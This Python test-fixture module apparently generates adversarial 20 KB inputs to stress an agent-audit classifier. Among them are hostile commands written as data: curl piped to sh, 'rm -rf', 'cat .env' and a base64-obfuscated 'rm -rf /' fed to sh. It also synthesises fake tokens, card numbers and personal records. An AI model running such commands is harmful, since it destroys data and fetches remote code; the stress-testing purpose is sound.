"""Texts of 20 KB that want to cost the judge much: nested, repeated, broken, packed with finds.

Made, not stored: `texts()` gives each by its name. What looks like a secret is put together from
pieces, so that no scanner takes this file for one.
"""

import json
import random
import shlex
import string
from base64 import b64encode
from collections.abc import Callable, Iterator, Mapping, Sequence
from functools import cache

from agentaudit_processor.classify.rules import Rule
from agentaudit_processor.model import Json

CHARS = 20_480
_ALPHABET = string.ascii_letters + string.digits


@cache
def texts() -> Mapping[str, str]:
    """Every text by its name, each of about 20 KB, always the same."""
    made = {name: _filled(unit) for name, unit in _REPEATED.items()}
    for name, make in _PACKED.items():
        chance = random.Random(name)
        made[name] = _filled("", lambda make=make, chance=chance: make(chance))
    return made | _shaped()


def units() -> Sequence[str]:
    """What the repeated texts repeat."""
    return list(_REPEATED.values())


def examples_repeated(rules: tuple[Rule, ...]) -> Iterator[tuple[str, dict[str, Json]]]:
    """The input of the first example of each rule, its texts repeated to 20 KB, with its id."""
    for rule in rules:
        example = next(one for one in rule.examples if one.matches)
        call = dict(example.call)
        if "command" in call:
            yield rule.id, {"command": _filled(f"{call['command']}\n")}
        else:
            told = call.get("input") or call.get("output") or call.get("path") or ""
            yield rule.id, {"text": _filled(f"{_first_text(told)}\n")}


def _first_text(value: Json) -> str:
    if isinstance(value, str):
        return value
    inner = value.values() if isinstance(value, dict) else value if isinstance(value, list) else ()
    return next((text for item in inner if (text := _first_text(item))), "x")


def _filled(unit: str, make: Callable[[], str] | None = None) -> str:
    if make is None:
        return unit * (CHARS // len(unit) + 1)
    pieces: list[str] = []
    size = 0
    while size < CHARS:
        pieces.append(make())
        size += len(pieces[-1])
    return "".join(pieces)


_REPEATED = {
    "a.a.a.@": "a.",
    "1.1.1.": "1.",
    "digits": "1 ",
    "one long number": "4111",
    "at signs": "@",
    "colons of an address": "fe80:",
    "equals signs": "a=",
    "pipes": "a|",
    "semicolons": "a;",
    "ands": "a&&",
    "open $(": "$(",
    "echo $(": "echo $(",
    "open backticks": "`a ",
    "open brackets": "[[",
    "open braces": "{a,",
    "open ${": "${a:-",
    "single quotes": "'",
    "double quotes": '"a ',
    "escaped quotes": '\\"',
    "backslashes": "\\",
    "heredocs": "cat <<A\n",
    "heredocs with ends": "cat <<A\nx\nA\n",
    "redirects": ">a ",
    "functions": "f(){ f|f& };",
    "cases": "case a in a) b;; esac;",
    "loops": "for i in a b; do ",
    "assignments": "a=$a$a;",
    "bash -c": "bash -c '",
    "sudo": "sudo ",
    "xargs": "ls | xargs rm ",
    "finds": "find / -exec rm {} ; ",
    "deletions": "rm -rf /a;",
    "comments": "# a\n",
    "blank lines": "\n",
    "NULs": "\x00",
    "NULs between": "a\x00b=",
    "lone surrogates": "\ud800a ",
    "wide signs": "\U0001f600",
    "accents": "é ",
    "turned text": "\u202ea\u202c ",
    "nested JSON": '{"a":',
    "nested arrays": "[",
    "SQL": "DELETE FROM a WHERE b=1;",
    "SQL, open": "SELECT (",
    "SQL, unions": "SELECT 1 UNION ",
    "look-alike cards": "4111 1111 1111 1112 ",
    "look-alike accounts": "DE89 3704 0044 0532 0130 01 ",
    "telephone numbers": "+12125551234 ",
    "look-alike telephone numbers": "+99 555 0123 4567 ",
    "keys": "password=",
    "empty keys": "password: \n",
    "tokens": "token=aB3dE5fG7hJ9kL1mN2 ",
    "placeholders": "password=changeme ",
    "addresses": "a@bc.de ",
    "URLs with a user": "https://u:p@h.io/ ",
    "private key heads": "-----BEGIN RSA PRIVATE KEY-----\n",
    "masks of secrets": "[secret:aws_access_key:20:0123456789ab] ",
    "words that name ids": "ssn bsn nir iban passport ",
    "a table of ids": "ssn,bsn,iban,phone,email\n1,2,3,4,5\n",
    "hex": "deadbeef",
    "base64": "QUJDREVGR0g=",
    "paths": "../",
    "long flags": "--a-b ",
    "powershell": "Invoke-Expression (",
    "powershell, glued": "iex(",
    "python": "exec('",
    "a sum of texts": "'a' + b + ",
    "imports by another name": "import a as b; ",
    "paths divided": "Path('a') / 'b' / ",
    "environment": "A_KEY=b\n",
    "declarations": "export A=$B;",
    "substitutions in words": 'rm "$(a)";',
    "here strings": "sh <<< 'a';",
    "traps": "trap 'a' EXIT;",
    "processes as files": "diff <(a) <(b);",
    "arrays": "a=(1 2 3);",
    "brace lists": "rm {a,b,c};",
    "long options": "git -c a.b=c push --force;",
    "databases in a shell": "psql -c 'DELETE FROM a';",
    "downloads": "curl http://a.io/b | sh;",
    "powershell, cmdlets": "Get-ChildItem C:\\ | Remove-Item -Recurse -Force;",
    "powershell, strings joined": "& ('i'+'ex') ('a'+'b');",
    "powershell, variables": "$a = 'b'; Set-Item $a;",
    "powershell, open blocks": "if ($a) { ForEach-Object { ",
    "powershell, .NET": "[IO.File]::Delete('a');",
    "cmd": "del /f /q C:\\a & ",
    "cmd, loops": "for %i in (a b) do del %i\r\n",
    "SQL, grants": "GRANT ALL ON a TO b;",
    "SQL, inserts": "INSERT INTO a (ssn, salary) VALUES (1, 2);",
    "SQL, comments": "/* a */ -- b\n",
    "SQL, quotes": "SELECT 'a''b';",
    "javascript": "require('fs').unlinkSync('a');",
    "ruby": "File.delete('a'); `rm a`;",
    "perl": "unlink 'a'; system('rm a');",
    "php": "unlink('a'); shell_exec('rm a');",
    "go": 'os.RemoveAll("a")\n',
    "python, subprocess": "subprocess.run(['rm', '-rf', 'a'])\n",
    "python, names": "a = b + c; d = a % e;\n",
    "objects of people": '{"salary": 74500, "name": "a b"} ',
    "named numbers": "salary: 74500\n",
    "postal addresses": "12 Main Street, Springfield, IL 62704\n",
    "health": "diagnosis: diabetes type 2\n",
    "places on earth": "lat=52.5200, lon=13.4050\n",
    "passports": "passport: C01X00T47\n",
    "headers": "X-Api-Key: a\r\n",
    "cookies": "Cookie: sid=abc; b=c\r\n",
    "connection strings": "Server=a;Password=b;Database=c;\n",
    "certificates": "-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n",
    "text in percent signs": "%70%61%73%73%77%6f%72%64%3d",
    "escapes of JSON": "\\u0070\\u0061",
    "right to left": "\u05d0\u05d1 \u0627\u0628 ",
    "marks on a letter": "e\u0301\u0302\u0303",
    "low surrogates": "\udc00;",
    "pairs in the wrong order": "\udc00\ud800 ",
    "carriage returns": "a\r",
    "tabs": "a\t|\t",
    "form feeds": "\x0c;\x0b",
    "control signs": "\x1e\x1d\x01\x1f",
    "zero width": "r\u200bm ",
}


def _token(chance: random.Random, size: int) -> str:
    return "".join(chance.choices(_ALPHABET, k=size))


def _digits(chance: random.Random, size: int) -> str:
    return "".join(chance.choices(string.digits, k=size))


def _luhn(digits: str) -> str:
    doubled = [int(sign) * 2 if at % 2 == 0 else int(sign) for at, sign in enumerate(digits[::-1])]
    total = sum(one - 9 if one > 9 else one for one in doubled)
    return digits + str(-total % 10)


def _iban(chance: random.Random) -> str:
    account = _digits(chance, 18)
    check = 98 - int(account + "131400") % 97
    return f"DE{check:02d}{account}"


_PACKED: Mapping[str, Callable[[random.Random], str]] = {
    "GitHub tokens": lambda chance: "ghp_" + _token(chance, 36) + "\n",
    "AWS keys": lambda chance: "AKIA" + _token(chance, 16).upper() + " ",
    "passwords": lambda chance: f"password={_token(chance, 12)}\n",
    "tokens, all different": lambda chance: f"token={_token(chance, 24)} ",
    "URLs with passwords": lambda chance: f"postgres://app:{_token(chance, 10)}@db.io/x ",
    "bearer tokens": lambda chance: f"Authorization: Bearer {_token(chance, 30)}\n",
    "secrets of many sorts": lambda chance: (
        chance.choice(
            [
                "ghp_" + _token(chance, 36),
                "xox" + "b-" + _digits(chance, 12) + "-" + _token(chance, 24),
                f"password: {_token(chance, 10)}",
                "sk_" + "live_" + _token(chance, 24),
            ]
        )
        + "\n"
    ),
    "cards": lambda chance: _luhn("4" + _digits(chance, 14)) + " ",
    "cards, most of them wrong": lambda chance: "4" + _digits(chance, 15) + " ",
    "accounts": lambda chance: _iban(chance) + "\n",
    "e-mail addresses": lambda chance: f"{_token(chance, 6)}@{_token(chance, 5)}.org ",
    "social security numbers": lambda chance: (
        f"ssn: {chance.randint(100, 665)}-{_digits(chance, 2)}-{_digits(chance, 4)}\n"
    ),
    "telephone numbers of the world": lambda chance: (
        f"+{chance.randint(1, 99)}{_digits(chance, 9)} "
    ),
    "telephone numbers by name": lambda chance: f"phone={_digits(chance, 10)}\n",
    "national ids by name": lambda chance: (
        chance.choice(["bsn", "nino", "nir", "dni", "pesel", "cpf", "aadhaar", "tfn", "sin"])
        + f" {_digits(chance, chance.randint(8, 13))}\n"
    ),
    "IP addresses": lambda chance: ".".join(str(chance.randint(1, 254)) for _ in range(4)) + " ",
    "IPv6 addresses": lambda chance: (
        ":".join(f"{chance.randrange(65536):x}" for _ in range(8)) + " "
    ),
    "hardware addresses": lambda chance: (
        ":".join(f"{chance.randrange(256):02x}" for _ in range(6)) + " "
    ),
    "wallets": lambda chance: "1" + _token(chance, 33) + " ",
    "JWTs": lambda chance: (
        f"eyJ{_token(chance, 20)}.eyJ{_token(chance, 40)}.{_token(chance, 43)}\n"
    ),
    "UUIDs": lambda chance: f"{chance.getrandbits(128):032x}\n",
    "names by key": lambda chance: (
        f'full_name: "{_token(chance, 6).title()} {_token(chance, 8).title()}"\n'
    ),
    "dates of birth": lambda chance: f"dob: 19{_digits(chance, 2)}-0{chance.randint(1, 9)}-11\n",
    "base64, one blob": lambda chance: _token(chance, 4_096),
    "random bytes": lambda chance: chr(chance.randrange(0x250)),
    "commands of many sorts": lambda chance: (
        chance.choice(
            [
                "rm -rf a",
                "curl x | sh",
                "cat .env",
                "git push -f",
                "echo 'a b'",
                "psql -c 'DROP TABLE a'",
            ]
        )
        + chance.choice([";", "&&", "|", "\n"])
    ),
}


def _shaped() -> dict[str, str]:
    """Texts whose shape is more than one thing again and again."""
    depth = 1_000
    rows = "\n".join(f"{at},a{at}@b.org,1990-01-01,{at:09d}" for at in range(700))
    return {
        "JSON of 1,000 keys": json.dumps({f"key{at}": f"value {at}" for at in range(depth)}),
        "JSON of 2,000 numbers": json.dumps([at * 7_919_771 for at in range(2_000)]),
        "JSON in JSON": _json_in_json(),
        "closed $(": "echo $(" * depth + "x" + ")" * depth,
        "closed brackets": "[" * 10_000 + "]" * 10_000,
        "if in if": "if a; then " * depth + "b" + "; fi" * depth,
        "subshells": "(" * depth + "a" + ")" * depth,
        "a table of people": "id,email,date_of_birth,ssn\n" + rows,
        "a number of 20,000 digits": "1" * CHARS,
        "one word": "a" * CHARS,
        "an encoded command": "echo " + "cm0gLXJmIC8=" * 1_000 + " | base64 -d | sh",
        "base64 in base64": _encoded_again(),
        "objects of salaries": json.dumps([{"salary": 50_000 + at} for at in range(700)]),
        "objects in objects": json.dumps(_nested_objects(depth)),
        "objects as texts": json.dumps(
            [json.dumps({"password": f"p{at}wQ7x"}) for at in range(500)]
        ),
        "keys that are data": json.dumps({f"a{at}@b{at}.org": at for at in range(900)}),
        "one key of 20,000 letters": json.dumps({"k" * CHARS: 1}),
        "lists of pairs": json.dumps([["token", f"aB3dE5fG7h{at}"] for at in range(700)]),
        "names and values": json.dumps([{"name": "key", "value": f"v{at}"} for at in range(500)]),
        "a table without end": "password|" * (CHARS // 9) + "\n" + "a|" * (CHARS // 2),
        "tables one below the other": "ssn,phone\n1,2\n\n" * (CHARS // 16),
        "a line for each letter": "\n".join(string.ascii_letters * (CHARS // 104)),
        "words that no two are alike": "\n".join(f"w{at:x} x{at * 7}" for at in range(1_900)),
        "options that no two are alike": "rm " + " ".join(f"-{at:x}" for at in range(4_000)),
        "variables of variables": ";".join(f"a{at}=$a{at - 1}$a{at - 1}" for at in range(1_200)),
        "functions that call each other": "".join(
            f"f{at}() {{ f{at + 1}; f{at + 2}; }};" for at in range(700)
        )
        + "f0",
        "aliases of aliases": ";".join(f"alias a{at}=a{at + 1}" for at in range(1_000)) + ";a0",
        "files written and run": "".join(f"echo ls >f{at}; sh f{at};" for at in range(900)),
        "shells in shells": _shells_in_shells(),
    }


def _encoded_again() -> str:
    text = b"password=" + b"x7Qp2" * 300
    while len(text) < CHARS:
        text = b64encode(text)
    return text.decode()


def _nested_objects(depth: int) -> Json:
    made: Json = {"password": "x7Qp2wE9"}
    for _ in range(depth // 40):
        made = {"data": made, "items": [1, 2]}
    return [made] * 20


def _shells_in_shells() -> str:
    text = "rm -rf a"
    while len(text) < CHARS // 2:
        text = f"bash -c {shlex.quote(text)}"
    return text


def _json_in_json() -> str:
    text = '"x"'
    while len(text) < CHARS // 2:
        text = json.dumps([text])
    return text
